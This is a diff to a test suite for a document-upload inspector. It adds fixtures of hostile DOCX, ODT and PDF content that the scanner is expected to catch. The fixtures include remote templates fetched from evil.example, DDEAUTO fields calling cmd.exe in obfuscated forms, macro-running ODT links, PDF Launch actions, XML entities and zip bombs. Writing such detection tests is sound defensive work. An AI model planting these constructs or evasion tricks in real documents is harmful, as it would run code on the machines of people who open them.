@@ -16,6 +16,15 @@ const relationships = (type: string) => ({
   content: `<Relationships><Relationship Id="rId1" Type="http://schemas/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
 });
 
+const withoutMode = (type: string, target: string) => ({
+  name: 'word/_rels/document.xml.rels',
+  content: `<Relationships><Relationship Id="r" Type="http://schemas/${type}" Target="${target}"/></Relationships>`,
+});
+
+const docxWith = (content: string, head = '') =>
+  makeDocx([{ name: 'word/footer1.xml', content: `${head}<w:ftr>${content}</w:ftr>` }]);
+const odtWith = (content: string) => makeOdt([{ name: 'styles.xml', content: `<a>${content}</a>` }]);
+
 describe('a document is recognized by its content', () => {
   test.each([
     ['pdf', makePdf()],
@@ -49,11 +58,103 @@ describe('macros are rejected', () => {
     ['a DOCX with a VBA project', makeDocx([{ name: 'word/vbaProject.bin', content: 'x' }])],
     ['a DOCM', makeDocx([], 'application/vnd.ms-word.document.macroEnabled.main+xml')],
     ['a DOCX whose template is elsewhere', makeDocx([relationships('attachedTemplate')])],
+    [
+      'a DOCX with a template of another part',
+      makeDocx([{ ...relationships('attachedTemplate'), name: 'word/_rels/other.xml.RELS' }]),
+    ],
+    [
+      'a DOCX whose relationship hides its type behind another value',
+      makeDocx([
+        {
+          name: 'word/_rels/settings.xml.rels',
+          content: `<Relationships><Relationship Target="https://evil.example/x> Type='a/hyperlink'&#34; Type=&#34;a/hyperlink&#34; x=&#34;${'y'.repeat(5000)}" Type="a/attachedTemplate" TargetMode="External"/></Relationships>`,
+        },
+      ]),
+    ],
+    [
+      'a DOCX whose types and relationships have references to characters',
+      makeDocx([relationships('attached&#x54;emplate')]),
+    ],
+    [
+      'a DOCM in references to characters',
+      makeDocx([], 'application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
+    ],
+    [
+      'a DOCX whose VBA project has another name',
+      makeDocx([
+        {
+          name: 'word/_rels/document.xml.rels',
+          content:
+            '<Relationships><Relationship Id="r" Type="http://schemas/vbaProject" Target="x.bin"/></Relationships>',
+        },
+      ]),
+    ],
     ['an ODT with Basic', makeOdt([{ name: 'Basic/Standard/Module1.xml', content: 'x' }])],
     ['an ODT with scripts', makeOdt([{ name: 'Scripts/python/x.py', content: 'x' }])],
   ])('%s', async (_, file) => {
     expect(await rejectionOf(file)).toContain('has macros');
   });
+
+  test.each([
+    ['of a web server', 'https://evil.example/t.dotm'],
+    ['of a file server', '\\\\evil.example\\t.dotm'],
+    ['of a file server, as a URL', 'file://evil.example/t.dotm'],
+    ['of a file server, as a URL with four slashes', 'file:////evil.example/t.dotm'],
+    ['of a file server, with escapes', 'file:///%5C%5Cevil.example/t.dotm'],
+  ])('a template %s', async (_, target) => {
+    expect(await rejectionOf(withTemplate(target))).toContain('has macros');
+  });
+
+  test.each([
+    ['in one run', field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')],
+    ['between runs', field('<w:x/>D', 'DE', 'AUTO cmd')],
+    ['in references to characters', field(' &#68;D&#x45; cmd')],
+    ['in a deleted run', field('dde cmd').replaceAll('instrText', 'delInstrText')],
+    ['inside another field', field('IF 1 = 1 ', field('DDE cmd "x"'))],
+    ['in an attribute', '<w:fldSimple w:dirty="a>b" w:instr=" DDEAUTO cmd ">x</w:fldSimple>'],
+    ['with another prefix', "<x:fldSimple x:instr='DDE cmd'/>"],
+  ])('a field of DDE %s', async (_, content) => {
+    for (const name of ['word/header1.xml', 'other/part.bin'])
+      expect(await rejectionOf(makeDocx([{ name, content: `<w:hdr>${content}</w:hdr>` }]))).toContain(
+        'start programs',
+      );
+  });
+
+  test.each([
+    ['a script', '<office:script script:language="ooo:Basic"/>'],
+    ['an event listener', '<script:event-listener script:event-name="dom:load" xlink:href="x"/>'],
+    ['a field that runs a macro', '<text:execute-macro/>'],
+    ['a link that runs a macro', '<text:a xlink:href="vnd.sun.star.script:x?language=Python">x</text:a>'],
+    ['a link by DDE', '<office:dde-source office:dde-application="soffice"/>'],
+    ['a menu that runs a macro', '<menu:menuitem menu:id="vnd.sun.&#115;tar.script:x"/>'],
+  ])('an ODT with %s', async (_, content) => {
+    expect(await rejectionOf(makeOdt([{ name: 'styles.xml', content: `<a>${content}</a>` }]))).toContain(
+      'has macros',
+    );
+  });
+});
+
+/** A field whose instruction is divided between runs. */
+function field(...runs: string[]): string {
+  const instructions = runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`);
+  return `<w:fldChar w:fldCharType="begin"/>${instructions.join('<w:proofErr/>')}<w:fldChar w:fldCharType="separate"/>x<w:fldChar w:fldCharType="end"/>`;
+}
+
+const withTemplate = (target: string) =>
+  makeDocx([
+    {
+      name: 'word/_rels/settings.xml.rels',
+      content: `<Relationships><Relationship Id="rId1" Type="http://schemas/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
+    },
+  ]);
+
+/** Word writes it into each document that began with a template. */
+it.each([
+  'file:///C:\\Users\\Mette\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx',
+  'file://localhost/Users/mette/Library/Resume.dotx',
+  'Resume.dotx',
+])('the template of the candidate, %s, is no reason to reject a document or to warn', async (target) => {
+  expect((await inspectFile(withTemplate(target))).warnings).toEqual([]);
 });
 
 describe('a file says what it may do', () => {
@@ -62,11 +163,42 @@ describe('a file says what it may do', () => {
     ['scripts', makePdf('<< /S /J#61vaScript >>')],
     ['programs', makePdf('<< /S /Launch /F (calc.exe) >>')],
     ['embedded_files', makePdf('<< /Names << /EmbeddedFiles 2 0 R >> >>')],
+    ['embedded_files', makePdf('<< /Type /Annot /Subtype /FileAttachment /FS 3 0 R >>')],
+    ['embedded_files', makePdf('<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>')],
+    ['unchecked', makePdf('<< /AcroForm << /XFA 4 0 R >> >>')],
+    ['unchecked', makePdf('<< /Type /Obj#53tm >>')],
     ['encrypted', makePdf('<< /Encrypt 4 0 R >>')],
     ['embedded_files', makeDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }])],
+    [
+      'embedded_files',
+      makeDocx([
+        {
+          name: 'word/_rels/document.xml.rels',
+          content:
+            '<Relationships><Relationship Id="r" Type="http://schemas/oleObject" Target="x.bin"/></Relationships>',
+        },
+      ]),
+    ],
     ['active_content', makeDocx([{ name: 'word/activeX/activeX1.bin', content: 'x' }])],
     ['external_content', makeDocx([relationships('frame')])],
+    ['external_content', docxWith(field(' INCLUDEPICTURE "https://evil.example/a.png" \\* MERGEFORMAT '))],
+    ['external_content', docxWith(field('INCLUDETEXT "\\\\evil.example\\a"'))],
+    ['external_content', makeDocx([withoutMode('image', 'https://evil.example/a.png')])],
+    ['unchecked', docxWith(field(field('QUOTE 68 68 69'), ' cmd'))],
+    ['unchecked', docxWith(field('D<!-- -->DE cmd'))],
+    ['unchecked', docxWith(field('D<![CDATA[D]]>E cmd'))],
+    ['unchecked', docxWith('<w:p/>', '<?xml version="1.0" encoding="UTF-7"?>')],
+    ['unchecked', docxWith('<w:p/>', '<!DOCTYPE a [<!ENTITY e "x">]>')],
+    ['unchecked', makeDocx([{ name: 'word/header1.xml', content: Buffer.from('\ufeff<a/>', 'utf16le') }])],
+    ['unchecked', makeDocx([{ name: 'word/header1.xml', content: `<a>${' '.repeat(8_000_000)}</a>` }])],
     ['embedded_files', makeOdt([{ name: 'Object 1/content.xml', content: 'x' }])],
+    ['embedded_files', odtWith('<draw:object-ole xlink:href="./a"/>')],
+    ['active_content', odtWith('<draw:applet draw:code="a.class"/>')],
+    ['external_content', odtWith('<draw:image xlink:href="https://evil.example/a.png"/>')],
+    ['external_content', odtWith("<draw:image xlink:href = '//evil.example/a.png'/>")],
+    ['external_content', odtWith('<text:section-source xlink:href="../a.odt"/>')],
+    ['external_content', odtWith('<draw:floating-frame x:href="&#104;ttps://evil.example/"/>')],
+    ['encrypted', odtWith('<manifest:encryption-data/>')],
   ])('%s', async (warning, file) => {
     expect((await inspectFile(file)).warnings).toEqual([warning]);
   });
@@ -80,6 +212,24 @@ describe('a file says what it may do', () => {
   it.each([131_060, 131_072, 131_300])('also far into the file, at byte %i', async (at) => {
     const file = makePdf(`${'x'.repeat(at)} << /S /JavaScript >>`);
     expect((await inspectFile(file)).warnings).toEqual(['scripts']);
+  });
+
+  it('a text that looks like a field, a tag or a reference says nothing', async () => {
+    const words = '{ DDEAUTO cmd } instrText href="https://mette.example" &lt;script&gt; macro:';
+    expect((await inspectFile(docxWith(`<w:t>${words}</w:t>${field(' PAGE ')}`))).warnings).toEqual([]);
+    expect((await inspectFile(docxWith(field(' HYPERLINK "https://mette.example" ')))).warnings).toEqual([]);
+    const link = `<text:a xlink:href="https://mette.example">${words}</text:a><office:scripts/>`;
+    const own =
+      '<draw:image xlink:href="Pictures/a.png"/><draw:a xlink:href="../a"/><meta:template xlink:href="../../a.ott"/>';
+    expect((await inspectFile(odtWith(link + own))).warnings).toEqual([]);
+  });
+
+  it('costs a time that grows with the size only', async () => {
+    const hostile = ['<a b="', '<w:fldSimple ', '<!--', '<a b=c ', '&#', `<a ${' b'.repeat(100)}`];
+    const begunAt = performance.now();
+    for (const text of hostile)
+      await inspectFile(docxWith(`instrText${text.repeat(3_000_000 / text.length)}`));
+    expect(performance.now() - begunAt).toBeLessThan(10_000);
   });
 
   it('a link to a web page and words that only begin like a name say nothing', async () => {
@@ -98,6 +248,26 @@ describe('bombs are rejected without being unpacked', () => {
         { name: '[Content_Types].xml', content: Buffer.alloc(5_000_000), claimedBytes: 100 },
         { name: 'word/document.xml', content: 'x' },
       ]),
+    ],
+    [
+      'whose relationships expand to more than they say',
+      makeDocx([{ name: 'word/_rels/a.rels', content: Buffer.alloc(5_000_000, ' '), claimedBytes: 100 }]),
+    ],
+    [
+      'whose relationships are too long to be checked',
+      makeDocx([{ name: 'word/_rels/a.rels', content: Buffer.alloc(5_000_000, ' ') }]),
+    ],
+    [
+      'with two entries of one name',
+      makeDocx([{ name: '[content_types].xml', content: 'application/vnd.ms-word.document.macroEnabled' }]),
+    ],
+    [
+      'with entities of its own',
+      makeDocx([{ name: 'word/_rels/a.rels', content: '<!DOCTYPE a [<!ENTITY e "x">]><Relationships/>' }]),
+    ],
+    [
+      'with relationships in UTF-16',
+      makeDocx([{ name: 'word/_rels/a.rels', content: Buffer.from('<a/>', 'utf16le') }]),
     ],
     [
       'with 3,000 entries',
